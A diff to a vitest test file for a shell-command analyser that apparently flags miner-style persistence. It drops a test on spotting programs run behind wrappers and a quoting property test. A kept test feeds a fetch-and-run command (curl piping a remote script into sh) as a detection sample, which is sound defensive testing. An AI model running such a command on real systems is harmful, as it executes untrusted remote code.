@@ -3,22 +3,8 @@ import { describe, expect, it } from 'vitest';
 import { show } from '../show.ts';
 import { minerArguments } from '../verdict/miner-arguments.ts';
 import { commandFacts, cronCommand, meantPaths, plain, sameDownload } from './commands.ts';
-import { pipelinesOf } from './shell-words.ts';
-
-const runs = (command: string) => commandFacts(show(command)).runs;
 
 describe('commands', () => {
-  it('tell what they run, past wrappers, assignments and keywords', () => {
-    expect(runs('nohup /tmp/m >/dev/null 2>&1 &')).toEqual(['/tmp/m']);
-    expect(runs('A=1 B=2 nice -n 19 timeout 5 /tmp/m -x')).toEqual(['/tmp/m']);
-    expect(runs('if true; then sh /tmp/i.sh; fi')).toEqual(['true', '/tmp/i.sh']);
-    expect(runs('pgrep -f /tmp/m || /tmp/m')).toEqual(['pgrep', '/tmp/m']);
-    expect(runs('bash -c "exec /tmp/m --x"')).toEqual(['/tmp/m']);
-    expect(runs('echo $(/tmp/m) `/tmp/n`')).toEqual(['echo', '/tmp/m', '/tmp/n']);
-    expect(runs('. /tmp/env.sh && python3 /tmp/a.py')).toEqual(['/tmp/env.sh', '/tmp/a.py']);
-    expect(runs("echo '/tmp/m; /tmp/n' # /tmp/o")).toEqual(['echo']);
-  });
-
   it('tell fetching and running from fetching', () => {
     const both = (command: string) => commandFacts(show(command)).fetchesAndRuns;
     expect(both('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).toBe(true);
@@ -33,16 +19,10 @@ describe('commands', () => {
     expect(plain(cronCommand(show('mail -s x root%hello\\%there')))).toBe('mail -s x root\nhello%there');
   });
 
-  it('never fail to be read, and quoting keeps a word whole', () => {
+  it('never fail to be read', () => {
     fc.assert(
       fc.property(fc.string(), (text) => {
         expect(commandFacts(show(text)).names.every((name) => name.startsWith('/'))).toBe(true);
-      }),
-    );
-    fc.assert(
-      fc.property(fc.string({ unit: 'binary', minLength: 1 }), (word) => {
-        const quoted = `'${word.replaceAll("'", `'\\''`)}'`;
-        expect(pipelinesOf(`x ${quoted} y`)[0]?.[0]?.words).toEqual(['x', word, 'y']);
       }),
     );
   });
